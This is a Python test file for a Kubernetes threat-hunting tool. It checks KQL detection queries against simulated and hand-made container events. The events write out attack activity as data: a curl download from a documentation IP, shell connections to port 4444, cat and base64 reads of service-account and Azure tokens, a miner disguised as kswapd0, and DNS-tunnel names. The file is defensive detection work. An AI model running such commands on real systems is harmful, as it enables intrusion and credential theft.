"""What the bundled hunting queries find, checked against answers worked out in Python.

Two kinds of data. The seed queries run over a simulated cluster with every attack
scenario, and their rows are compared with the same selection computed directly from the
simulator's events. Each new query runs over a few hand-made events where it is obvious
what must be reported and what must not. Everything runs on the naive ``ContainerLogV2``
layout (``naive.py``), i.e. with KQL's own semantics, not the store's optimisations.
"""

from __future__ import annotations

import datetime as dt
import hashlib
import ipaddress
import json
from collections import Counter
from collections.abc import Iterable, Iterator
from dataclasses import dataclass
from typing import Any

import duckdb
import duckdb_kql
import pytest

from edgewatch import simulate
from edgewatch.events import (
    BindEvent,
    CapabilitiesEvent,
    DnsEvent,
    Event,
    ExecEvent,
    OpenEvent,
    SeccompEvent,
    SniEvent,
    TcpEvent,
)
from edgewatch.hunt import catalog
from edgewatch.hunt import functions as ip_functions
from edgewatch.simulate.internet import ATTACKER_IPS, TUNNEL_DOMAIN
from tests.hunt.naive import by_gadget, connect, naive_containerlog

S = 1_000_000_000
DAY = 86_400 * S
T0 = simulate.DEFAULT_START_NS


def run(con: duckdb.DuckDBPyConnection, name: str) -> list[dict[str, Any]]:
    """Run a bundled query, translated with no schema so that needing one fails here."""
    ip_functions.register()
    sql = duckdb_kql.to_sql(catalog.get(name).text)
    rel = con.sql(str(sql), params=sql.parameters) if sql.parameters else con.sql(str(sql))
    return [dict(zip(rel.columns, row, strict=True)) for row in rel.fetchall()]


def load(events: Iterable[Event]) -> duckdb.DuckDBPyConnection:
    con = connect()
    naive_containerlog(con, by_gadget(events))
    ip_functions.install(con)
    return con


def when(time_ns: int) -> dt.datetime:
    """An event time as ``TimeGenerated`` reads back (UTC, microseconds, naive)."""
    return dt.datetime(1970, 1, 1) + dt.timedelta(microseconds=time_ns // 1000)


def dynamic(value: str) -> Any:
    """A ``dynamic`` result column (``make_set``, a bare ``LogMessage`` path) is JSON text."""
    return json.loads(value)


def is_kusto_private(addr: str) -> bool | None:
    """``ipv4_is_private``: RFC 1918 only; not an IPv4 address gives null."""
    try:
        ip = ipaddress.IPv4Address(addr)
    except ValueError:
        return None
    nets = ("10.0.0.0/8", "172.16.0.0/12", "192.168.0.0/16")
    return any(ip in ipaddress.IPv4Network(n) for n in nets)


def is_public(addr: str) -> bool:
    """What the new network queries call public: IPv4, not RFC 1918, loopback or link-local."""
    return is_kusto_private(addr) is False and not (
        ipaddress.IPv4Address(addr).is_loopback or ipaddress.IPv4Address(addr).is_link_local
    )


# -- hand-made events ---------------------------------------------------------------------


@dataclass(frozen=True)
class Pod:
    namespace: str
    name: str
    container: str
    image: str
    ip: str = "10.244.0.10"
    node: str = "edge-node-01"

    def ctx(self, comm: str, pcomm: str, pid: int) -> dict[str, Any]:
        digest = hashlib.sha256(self.name.encode()).hexdigest()
        return {
            "node": self.node,
            "namespace": self.namespace,
            "pod": self.name,
            "container": self.container,
            "runtime_container": self.container,
            "image": self.image,
            "container_id": digest if self.name else "",
            "runtime": "containerd" if self.name else "",
            "comm": comm,
            "pcomm": pcomm,
            "pid": pid,
            "tid": pid,
            "ppid": pid - 1,
            "uid": 1000,
            "gid": 1000,
        }


WEB = Pod("shop", "web-7d9f8c6b5-x2x9q", "web", "docker.io/library/nginx:1.27", "10.244.1.22")
API = Pod("shop", "api-5c8f9d7b4-q7lmn", "api", "registry.example/shop/api:2.4.1", "10.244.1.37")
PAY = Pod("payments", "payments-api-6b7c-zz9k2", "payments-api", "registry.example/pay:1.8.0")
COREDNS = Pod("kube-system", "coredns-6d4b75cb6d-hwt7m", "coredns", "registry.k8s.io/coredns:1.11")
HOST = Pod("", "", "", "", "192.168.10.11")


def tcp(
    pod: Pod,
    t: int,
    dst: str,
    port: int,
    comm: str = "curl",
    kind: str = "connect",
    error: str = "",
    pcomm: str = "sh",
    pid: int = 4242,
) -> TcpEvent:
    version = ipaddress.ip_address(dst).version
    return TcpEvent(
        time_ns=t,
        **pod.ctx(comm, pcomm, pid),
        src_addr=pod.ip if version == 4 else "fd00::10",
        src_port=80 if kind == "accept" else 40000 + t % 20000,
        dst_addr=dst,
        dst_port=port,
        ip_version=version,
        proto="TCP",
        type=kind,
        error=error,
        error_raw=111 if error else 0,
        fd=-1 if kind == "close" else 3,
        accept_fd=7 if kind == "accept" else -1,
    )


def dns(
    pod: Pod,
    t: int,
    name: str,
    qr: str = "Q",
    addresses: tuple[str, ...] = (),
    qtype: str = "A",
    comm: str = "python3",
    rcode: str = "",
) -> DnsEvent:
    query = qr == "Q"
    return DnsEvent(
        time_ns=t,
        **pod.ctx(comm, "gunicorn", 3100),
        src_addr=pod.ip if query else "10.0.0.10",
        src_port=40000 if query else 53,
        dst_addr="10.0.0.10" if query else pod.ip,
        dst_port=53 if query else 40000,
        ip_version=4,
        proto="UDP",
        nameserver="10.0.0.10",
        dns_id="5c1e",
        qr=qr,
        qtype=qtype,
        qtype_raw={"A": 1, "TXT": 16, "AAAA": 28}[qtype],
        name=name,
        rcode=rcode or ("" if query else "Success"),
        num_answers=len(addresses),
        addresses=list(addresses),
        rd=True,
        ra=not query,
        pkt_type="OUTGOING" if query else "HOST",
        pkt_type_raw=4 if query else 0,
    )


def sni(pod: Pod, t: int, name: str, comm: str = "python3") -> SniEvent:
    return SniEvent(time_ns=t, **pod.ctx(comm, "gunicorn", 3100), name=name)


def execve(
    pod: Pod,
    t: int,
    args: list[str],
    pcomm: str = "containerd-shim",
    upper_layer: bool = False,
    fupper_layer: bool = False,
    from_rootfs: bool = True,
    exepath: str = "",
    file: str = "",
) -> ExecEvent:
    comm = args[0].rsplit("/", 1)[-1][:15]
    return ExecEvent(
        time_ns=t,
        **pod.ctx(comm, pcomm, 5000 + t % 1000),
        args=args,
        cmdline=" ".join(args),
        exepath=exepath,
        file=file,
        upper_layer=upper_layer,
        fupper_layer=fupper_layer,
        from_rootfs=from_rootfs,
        file_from_rootfs=from_rootfs,
        loginuid=4294967295,
        sessionid=4294967295,
    )


def bind(
    pod: Pod,
    t: int,
    port: int,
    comm: str = "python3",
    addr: str = "0.0.0.0",
    error: str = "",
    opts: str = "REUSEADDRESS",
) -> BindEvent:
    return BindEvent(
        time_ns=t,
        **pod.ctx(comm, "sh", 6100),
        addr=addr,
        port=port,
        proto="TCP",
        ip_version=4,
        error=error,
        error_raw=98 if error else 0,
        opts=opts,
    )


def seccomp(pod: Pod, t: int, comm: str, syscall: str, code: str, pid: int = 7000) -> SeccompEvent:
    return SeccompEvent(
        time_ns=t, **pod.ctx(comm, "sh", pid), syscall=syscall, syscall_raw=101, code=code
    )


def opened(pod: Pod, t: int, comm: str, fname: str) -> OpenEvent:
    return OpenEvent(time_ns=t, **pod.ctx(comm, "bash", 8000), fname=fname, fd=3, flags="O_RDONLY")


def capability(pod: Pod, t: int, comm: str, cap: str, capable: bool) -> CapabilitiesEvent:
    return CapabilitiesEvent(
        time_ns=t,
        **pod.ctx(comm, "sh", 9000),
        cap=cap,
        capable=capable,
        audit=1,
        syscall="SYS_FINIT_MODULE",
    )


def ticks(start: int = T0, step: int = S) -> Iterator[int]:
    t = start
    while True:
        yield t
        t += step


# -- every query translates ---------------------------------------------------------------


@pytest.mark.parametrize("name", catalog.names())
def test_translates_without_a_schema(name: str) -> None:
    """No join, union or lookup: the queries translate where no connection is at hand."""
    ip_functions.register()
    assert "ContainerLogV2" in duckdb_kql.to_sql(catalog.get(name).text)


@pytest.mark.parametrize("name", catalog.names())
def test_runs_on_an_empty_table(name: str) -> None:
    assert run(load([]), name) == []


# -- seed queries against the simulator ---------------------------------------------------


@pytest.fixture(scope="module")
def simulated() -> tuple[list[tuple[str, Event]], duckdb.DuckDBPyConnection]:
    labeled = list(
        simulate.generate_labeled(
            20_000, seed=11, scenarios=["all"], gadgets=["all"], node_names=True
        )
    )
    return labeled, load(e for _, e in labeled)


def _events(simulated: tuple[list[tuple[str, Event]], Any], kind: type[Event]) -> list[Any]:
    return [e for _, e in simulated[0] if isinstance(e, kind)]


def test_public_outbound_tcp_seed(simulated: Any) -> None:
    expected: dict[tuple[Any, ...], list[Any]] = {}
    for e in _events(simulated, TcpEvent):
        if not e.namespace or e.src_addr == "127.0.0.1" or e.type != "connect":
            continue
        if is_kusto_private(e.dst_addr) is not False:  # null (IPv6) fails `where` too
            continue
        key = (
            e.node, e.namespace, e.pod, e.container, e.image, e.comm, e.pcomm, "Outbound",
            "connect", e.src_addr, str(e.dst_port),
        )  # fmt: skip
        group = expected.setdefault(key, [0, set()])
        group[0] += 1
        group[1].add(e.dst_addr)

    rows = run(simulated[1], "public_outbound_tcp")
    got = {
        (
            r["Computer"], r["log_namespace"], r["log_podName"], r["log_containerName"],
            r["log_containerImage"], r["log_comm"], r["log_parent"], r["direction"],
            r["log_operation"], r["log_srcIp"], r["log_dstPort"],
        ): [r["count_"], set(dynamic(r["set_log_dstIp"]))]
        for r in rows
    }  # fmt: skip
    assert got == expected
    assert len(rows) == len(got)
    assert any(ATTACKER_IPS["c2"] in dsts for _, dsts in got.values())


def test_dns_responses_seed(simulated: Any) -> None:
    expected = Counter(
        (
            when(e.time_ns), e.node, e.namespace, e.pod, e.container, e.comm, "Response",
            e.qtype, e.rcode, e.name, ",".join(e.addresses), e.src_addr, str(e.src_port),
            e.dst_addr, e.pkt_type,
        )
        for e in _events(simulated, DnsEvent)
        if e.namespace
        and e.qtype == "A"
        and e.qr == "R"
        and not e.name.lower().endswith(".cluster.local.")
        and e.pkt_type == "HOST"
        and "error" not in e.rcode.lower()
        and e.comm != "coredns"
    )  # fmt: skip
    rows = run(simulated[1], "dns_responses")
    assert [*rows[0]] == [
        "TimeGenerated", "Computer", "log_namespace", "log_podName", "log_containerName",
        "log_comm", "log_qr", "log_qtype", "log_rcode", "log_qname", "log_raddr", "log_srcIp",
        "log_srcPort", "log_dstIp", "log_pktType",
    ]  # fmt: skip
    # log_raddr is `LogMessage.addresses` without tostring(): dynamic, so JSON text here.
    got = Counter(tuple({**r, "log_raddr": dynamic(r["log_raddr"])}.values()) for r in rows)
    assert got == expected
    assert any(row[9] == "pool.supportxmr.com." for row in got)


def test_tls_sni_seed(simulated: Any) -> None:
    expected = Counter(
        (when(e.time_ns), e.node, e.namespace, e.pod, e.container, e.image, e.name, str(e.pid),
         e.pcomm)
        for e in _events(simulated, SniEvent)
        if e.namespace
    )  # fmt: skip
    got = Counter(tuple(r.values()) for r in run(simulated[1], "tls_sni"))
    assert got == expected


def test_seccomp_syscalls_seed(simulated: Any) -> None:
    hour = 3600 * S
    expected = Counter(
        (when(e.time_ns // hour * hour), e.node, e.namespace, e.pod, e.container, e.image,
         e.syscall, str(e.syscall_raw), e.code)
        for e in _events(simulated, SeccompEvent)
    )  # fmt: skip
    got = {tuple(r.values())[:-1]: r["count_"] for r in run(simulated[1], "seccomp_syscalls")}
    assert got == expected and expected


# -- new queries: the simulator's attacks -------------------------------------------------


def test_unresolved_public_ip_on_the_simulator(simulated: Any) -> None:
    labeled, con = simulated
    answered: dict[tuple[str, str], set[str]] = {}
    for _, e in labeled:
        if isinstance(e, DnsEvent) and e.qr == "R" and e.namespace:
            answered.setdefault((e.namespace, e.pod), set()).update(e.addresses)
    expected: dict[tuple[str, str, str], list[str]] = {}
    for label, e in labeled:
        if (
            isinstance(e, TcpEvent)
            and e.type == "connect"
            and e.namespace
            and is_public(e.dst_addr)
            and e.dst_addr not in answered.get((e.namespace, e.pod), ())
        ):
            expected.setdefault((e.namespace, e.pod, e.dst_addr), []).append(label)
    rows = run(con, "unresolved_public_ip")
    got = {(r["log_namespace"], r["log_podName"], r["log_dstIp"]): r["Connections"] for r in rows}
    assert got == {key: len(labels) for key, labels in expected.items()}
    assert all(label for labels in expected.values() for label in labels)  # attacks only
    assert {ATTACKER_IPS["c2"], ATTACKER_IPS["reverse_shell"]} <= {k[2] for k in got}


def test_dns_tunneling_on_the_simulator(simulated: Any) -> None:
    rows = run(simulated[1], "dns_tunneling")
    assert [r["log_domain"] for r in rows] == [TUNNEL_DOMAIN.rstrip(".")]
    # the pod's own questions, not its search-list expansions or CoreDNS forwarding them
    tunnel = [
        e
        for label, e in simulated[0]
        if label == "dns-tunnel"
        and isinstance(e, DnsEvent)
        and e.qr == "Q"
        and e.name.endswith(TUNNEL_DOMAIN)
        and e.comm != "coredns"
    ]
    assert rows[0]["Queries"] == len(tunnel)
    assert rows[0]["log_podName"] == tunnel[0].pod


# -- new queries: hand-made scenarios -----------------------------------------------------


def test_unresolved_public_ip() -> None:
    t = ticks()
    events = [
        dns(API, next(t), "example.com."),
        dns(API, next(t), "example.com.", "R", ("93.184.215.14", "93.184.215.15")),
        tcp(API, next(t), "93.184.215.15", 443),  # resolved by this pod
        tcp(API, next(t), "203.0.113.50", 4444, comm="bash"),  # never resolved
        tcp(API, next(t), "203.0.113.50", 4444, comm="bash", error="ECONNREFUSED"),
        tcp(API, next(t), "203.0.113.50", 4444, comm="bash", kind="close"),
        tcp(WEB, next(t), "93.184.215.15", 443),  # resolved, but by another pod
        tcp(API, next(t), "10.0.77.5", 5432),  # private
        tcp(API, next(t), "127.0.0.1", 8080),  # loopback
        tcp(API, next(t), "169.254.169.254", 80),  # link-local metadata endpoint
        dns(HOST, next(t), "updates.example.", "R", ("198.51.100.7",), comm="apt"),
        tcp(PAY, next(t), "198.51.100.7", 443, comm="java"),  # only the host resolved it
    ]
    rows = run(load(events), "unresolved_public_ip")
    got = {(r["log_podName"], r["log_dstIp"]): r for r in rows}
    assert set(got) == {
        (API.name, "203.0.113.50"),
        (WEB.name, "93.184.215.15"),
        (PAY.name, "198.51.100.7"),
    }
    api = got[API.name, "203.0.113.50"]
    assert (api["Connections"], api["FailedConnections"]) == (2, 1)
    assert dynamic(api["DstPorts"]) == ["4444"] and dynamic(api["Processes"]) == ["bash"]
    assert api["FirstSeen"] == when(events[3].time_ns)


def test_rare_outbound_destinations() -> None:
    t = ticks()
    events = [tcp(API, next(t), "10.0.184.20", 5432, comm="python3") for _ in range(5)]
    events += [tcp(API, next(t), "10.0.184.20", 5432, kind="close") for _ in range(5)]
    events += [tcp(WEB, next(t), "203.0.113.9", 22, comm="ssh")]
    events += [tcp(WEB, next(t), "198.51.100.1", 443) for _ in range(3)]  # at the threshold
    events += [tcp(WEB, next(t), "198.51.100.2", 443) for _ in range(4)]  # just over it
    events += [tcp(WEB, next(t), "127.0.0.1", 9000)]
    events += [tcp(PAY, next(t), "10.0.184.20", 5432, comm="java")]  # common elsewhere only
    rows = run(load(events), "rare_outbound_destinations")
    got = {(r["log_namespace"], r["log_dstIp"], r["log_dstPort"]): r for r in rows}
    assert set(got) == {
        ("shop", "203.0.113.9", "22"),
        ("shop", "198.51.100.1", "443"),
        ("payments", "10.0.184.20", "5432"),
    }
    assert got["shop", "203.0.113.9", "22"]["Scope"] == "public"
    assert got["payments", "10.0.184.20", "5432"]["Scope"] == "private"
    assert got["shop", "198.51.100.1", "443"]["Connections"] == 3
    assert dynamic(got["shop", "203.0.113.9", "22"]["Processes"]) == ["ssh"]
    assert [r["log_namespace"] for r in rows] == ["payments", "shop", "shop"]


def test_first_seen_sni() -> None:
    end = T0 + 3 * DAY
    events = [
        sni(API, T0, "api.github.com"),
        sni(API, end - 2 * 3600 * S, "api.github.com"),  # seen two days earlier
        sni(API, end - 3600 * S, "evil.example.net", comm="curl"),  # new for this pod
        sni(WEB, end - 60 * S, "api.github.com", comm="wget"),  # new for this pod
        sni(HOST, end, "host.example.org"),  # not a container
        sni(API, T0 + DAY, "old.example.com"),  # first seen outside the last day
    ]
    rows = run(load(events), "first_seen_sni")
    assert [(r["log_podName"], r["log_sni"]) for r in rows] == [
        (WEB.name, "api.github.com"),
        (API.name, "evil.example.net"),
    ]
    assert rows[1]["FirstSeen"] == when(end - 3600 * S)
    assert dynamic(rows[1]["Processes"]) == ["curl"]


def test_shell_or_package_manager_exec() -> None:
    t = ticks()
    events = [
        execve(WEB, next(t), ["/usr/sbin/nginx", "-g", "daemon off;"]),
        execve(WEB, next(t), ["bash", "-i"], pcomm="nginx"),
        execve(WEB, next(t), ["bash", "-c", "id"], pcomm="nginx"),
        execve(WEB, next(t), ["apt-get", "install", "-y", "nmap"], pcomm="bash"),
        execve(WEB, next(t), ["curl", "-o", "/tmp/x", "http://203.0.113.5/x"], pcomm="bash"),
        execve(API, next(t), ["python3", "/app/main.py"]),
        execve(API, next(t), ["/usr/bin/pip", "install", "requests"], pcomm="python3"),
        execve(HOST, next(t), ["sh", "-c", "true"], pcomm="systemd"),
    ]
    rows = run(load(events), "shell_or_package_manager_exec")
    got = {(r["log_podName"], r["log_comm"]): r for r in rows}
    assert set(got) == {
        (WEB.name, "bash"),
        (WEB.name, "apt-get"),
        (WEB.name, "curl"),
        (API.name, "pip"),
    }
    bash = got[WEB.name, "bash"]
    assert (bash["Category"], bash["log_parent"], bash["Executions"]) == ("shell", "nginx", 2)
    assert sorted(dynamic(bash["CommandLines"])) == ["bash -c id", "bash -i"]
    assert got[WEB.name, "apt-get"]["Category"] == "package manager"
    assert got[API.name, "pip"]["Category"] == "package manager"
    assert got[WEB.name, "curl"]["Category"] == "downloader"


def test_dns_tunneling() -> None:
    t = ticks(step=S // 10)

    def label(i: int, length: int) -> str:
        return hashlib.sha256(str(i).encode()).hexdigest()[:length]

    tunnel = [f"{label(i, 45)}.{i:04x}.tunnel.example." for i in range(30)]
    events = [dns(PAY, next(t), n, qtype="TXT", comm="java") for n in tunnel]
    events += [dns(PAY, next(t), n, "R", qtype="TXT", comm="java") for n in tunnel]
    events += [dns(COREDNS, next(t), n, qtype="TXT", comm="coredns") for n in tunnel]
    events += [dns(API, next(t), f"{label(i, 30)}.exfil.co.uk.") for i in range(25)]
    events += [dns(API, next(t), "api.github.com.") for _ in range(50)]
    guid = "6f1c2b7e-3d4a-4c59-9e8f-0a1b2c3d4e5f.ods.opinsights.azure.com."
    events += [dns(API, next(t), guid) for _ in range(30)]
    events += [dns(WEB, next(t), f"host-{i:02d}.corp.example.") for i in range(25)]
    events += [dns(WEB, next(t), f"{label(7, 44)}.cdn.example.") for _ in range(5)]
    events += [dns(API, next(t), f"{label(i, 44)}.assets.example.") for i in range(3)]
    events += [dns(API, next(t), f"x.{label(i, 44)}.svc.cluster.local.") for i in range(30)]
    rows = run(load(events), "dns_tunneling")
    got = {(r["log_podName"], r["log_domain"]): r for r in rows}
    assert set(got) == {
        (PAY.name, "tunnel.example"),
        (API.name, "exfil.co.uk"),  # a registered domain under co.uk, not co.uk itself
        (API.name, "assets.example"),  # three distinct names with a 44-character label
    }
    pay = got[PAY.name, "tunnel.example"]
    assert (pay["Queries"], pay["DistinctNames"], pay["TxtQueries"]) == (30, 30, 30)
    assert pay["AvgSubdomainLength"] == 50 and pay["LongLabelNames"] == 30
    assert pay["DigitShare"] > 0.3
    assert got[API.name, "exfil.co.uk"]["LongLabelNames"] == 0


def test_new_listening_ports() -> None:
    end = T0 + 3 * DAY
    events = [
        bind(API, T0, 8080),
        bind(API, end - 3600 * S, 8080),  # a restart: the port is not new
        bind(API, end - 1800 * S, 4444, comm="nc"),
        bind(API, end - 1700 * S, 0, comm="python3"),  # ephemeral
        bind(API, end - 1600 * S, 9090, error="EADDRINUSE"),
        bind(API, end - 1500 * S, 5353, opts="BIND_ADDRESS_NO_PORT"),
        bind(WEB, end - 60 * S, 8443, comm="nginx", addr="::"),
        bind(HOST, end, 2222, comm="sshd"),
    ]
    rows = run(load(events), "new_listening_ports")
    assert [(r["log_containerName"], r["log_port"]) for r in rows] == [
        ("web", "8443"),
        ("api", "4444"),
    ]
    assert dynamic(rows[1]["Processes"]) == ["nc"]
    assert dynamic(rows[1]["PodNames"]) == [API.name]
    assert dynamic(rows[0]["Addresses"]) == ["::"]


def test_seccomp_by_process() -> None:
    t = ticks()
    events = [seccomp(PAY, next(t), "java", "SYS_MEMBARRIER", "SECCOMP_RET_LOG") for _ in range(5)]
    events += [
        seccomp(WEB, next(t), "bash", "SYS_PTRACE", "SECCOMP_RET_KILL_PROCESS", pid=1),
        seccomp(WEB, next(t), "bash", "SYS_UNSHARE", "SECCOMP_RET_KILL_THREAD", pid=2),
        seccomp(WEB, next(t), "bash", "SYS_MOUNT", "SECCOMP_RET_ERRNO", pid=2),
    ]
    rows = run(load(events), "seccomp_by_process")
    assert [(r["log_comm"], r["Kills"], r["Verdicts"], r["Processes"]) for r in rows] == [
        ("bash", 2, 3, 2),
        ("java", 0, 5, 1),
    ]
    assert sorted(dynamic(rows[0]["Syscalls"])) == ["SYS_MOUNT", "SYS_PTRACE", "SYS_UNSHARE"]
    assert dynamic(rows[1]["Actions"]) == ["SECCOMP_RET_LOG"]


def test_top_talkers() -> None:
    t = ticks(step=S // 100)
    events: list[Event] = []
    for i in range(1, 26):
        pod = Pod("fleet", f"worker-{i:02d}", "worker", "registry.example/worker:1")
        events += [tcp(pod, next(t), f"10.0.0.{j % 7}", 80) for j in range(i)]
        events += [tcp(pod, next(t), "10.0.0.1", 80, kind="close") for _ in range(i)]
    busy = Pod("fleet", "worker-99", "worker", "registry.example/worker:1")
    events += [tcp(busy, next(t), "203.0.113.8", 443) for _ in range(30)]
    events += [tcp(busy, next(t), "10.244.0.5", 51000, kind="accept") for _ in range(20)]
    rows = run(load(events), "top_talkers")
    assert [r["log_podName"] for r in rows] == ["worker-99"] + [
        f"worker-{i:02d}" for i in range(25, 6, -1)
    ]
    top = rows[0]
    assert (top["Connections"], top["Outbound"], top["Inbound"]) == (50, 30, 20)
    assert (top["Peers"], top["PublicConnections"]) == (2, 30)
    assert (rows[1]["Connections"], rows[1]["Peers"], rows[1]["PublicConnections"]) == (25, 7, 0)


def test_mining_pool_activity() -> None:
    t = ticks()
    events = [
        tcp(API, next(t), "198.51.100.3", 3333, comm="kswapd0"),
        tcp(API, next(t), "198.51.100.3", 3333, comm="kswapd0", kind="close"),
        tcp(API, next(t), "198.51.100.4", 443, comm="kswapd0"),
        dns(API, next(t), "pool.supportxmr.com.", comm="kswapd0"),
        dns(API, next(t), "pool.supportxmr.com.", "R", ("198.51.100.3",), comm="kswapd0"),
        dns(API, next(t), "pool.supportxmr.com.api.svc.cluster.local.", comm="kswapd0"),
        dns(COREDNS, next(t), "pool.supportxmr.com.", comm="coredns"),
        sni(API, next(t), "xmr-eu1.nanopool.org", comm="kswapd0"),
        dns(WEB, next(t), "api.github.com."),
        dns(WEB, next(t), "abcxmrdef.example."),  # "xmr" inside a label is chance
        sni(WEB, next(t), "moneyxmr.example.com"),
    ]
    rows = run(load(events), "mining_pool_activity")
    got = {(r["log_podName"], r["Indicator"], r["Target"]): r["Events"] for r in rows}
    assert got == {
        (API.name, "pool port", "198.51.100.3:3333"): 1,
        (API.name, "pool name lookup", "pool.supportxmr.com"): 1,
        (API.name, "pool name in TLS", "xmr-eu1.nanopool.org"): 1,
    }


def test_exec_outside_image() -> None:
    t = ticks()
    events = [
        execve(API, next(t), ["/usr/local/bin/gunicorn", "app:app"]),
        execve(API, next(t), ["/tmp/.cache/dbus-daemon", "--session"], pcomm="sh"),
        execve(API, next(t), ["/usr/local/bin/helper"], upper_layer=True),
        execve(API, next(t), ["/bin/bash", "/opt/run.sh"], fupper_layer=True),
        execve(API, next(t), ["kswapd0", "-o", "pool:3333"], from_rootfs=False),
        execve(API, next(t), ["./x"], exepath="/dev/shm/.x/x"),
        execve(API, next(t), ["sh", "-c", "test -f /tmp/healthy"]),  # mentions /tmp only
        execve(HOST, next(t), ["/tmp/installer"]),
    ]
    rows = run(load(events), "exec_outside_image")
    assert [(r["log_program"], r["Reason"]) for r in rows] == [
        ("/tmp/.cache/dbus-daemon", "runs from a temp path"),
        ("/usr/local/bin/helper", "binary added or changed in the container"),
        ("/bin/bash", "script added or changed in the container"),
        ("kswapd0", "binary outside the container root filesystem"),
        ("./x", "runs from a temp path"),
    ]
    assert rows[0]["log_cmdline"] == "/tmp/.cache/dbus-daemon --session"
    assert rows[0]["log_parent"] == "sh"


def test_shell_outbound_connection() -> None:
    t = ticks()
    events = [
        tcp(WEB, next(t), "203.0.113.7", 4444, comm="bash", pcomm="k.sh"),
        tcp(WEB, next(t), "203.0.113.7", 4444, comm="bash", pcomm="k.sh", kind="close"),
        tcp(WEB, next(t), "10.0.184.20", 8080, comm="nc"),
        tcp(WEB, next(t), "127.0.0.1", 80, comm="sh"),
        tcp(API, next(t), "203.0.113.7", 4444, comm="python3"),
        tcp(API, next(t), "10.244.1.9", 40000, comm="socat", kind="accept"),
    ]
    rows = run(load(events), "shell_outbound_connection")
    assert [(r["log_comm"], r["log_parent"], r["log_dstIp"], r["log_dstPort"]) for r in rows] == [
        ("bash", "k.sh", "203.0.113.7", "4444"),
        ("nc", "sh", "10.0.184.20", "8080"),
    ]
    assert rows[0]["Connections"] == 1


def test_service_account_token_read() -> None:
    token = "/var/run/secrets/kubernetes.io/serviceaccount/token"
    t = ticks()
    events = [
        opened(API, next(t), "python3", token),  # the application's own client
        opened(WEB, next(t), "cat", token),
        opened(WEB, next(t), "cat", "/etc/passwd"),
        opened(WEB, next(t), "base64", "/var/run/secrets/azure/tokens/azure-identity-token"),
        opened(WEB, next(t), "cat", "/var/run/secrets/kubernetes.io/serviceaccount/ca.crt"),
    ]
    rows = run(load(events), "service_account_token_read")
    assert [(r["log_podName"], r["log_comm"], r["log_fname"]) for r in rows] == [
        (WEB.name, "cat", token),
        (WEB.name, "base64", "/var/run/secrets/azure/tokens/azure-identity-token"),
    ]


def test_denied_capabilities() -> None:
    t = ticks()
    events = [
        capability(API, next(t), "modprobe", "CAP_SYS_MODULE", capable=False),
        capability(API, next(t), "modprobe", "CAP_SYS_MODULE", capable=False),
        capability(API, next(t), "iptables", "CAP_NET_ADMIN", capable=True),
        capability(HOST, next(t), "kmod", "CAP_SYS_MODULE", capable=False),
    ]
    rows = run(load(events), "denied_capabilities")
    assert [(r["log_comm"], r["log_cap"], r["Denials"]) for r in rows] == [
        ("modprobe", "CAP_SYS_MODULE", 2)
    ]
    assert dynamic(rows[0]["Syscalls"]) == ["SYS_FINIT_MODULE"]
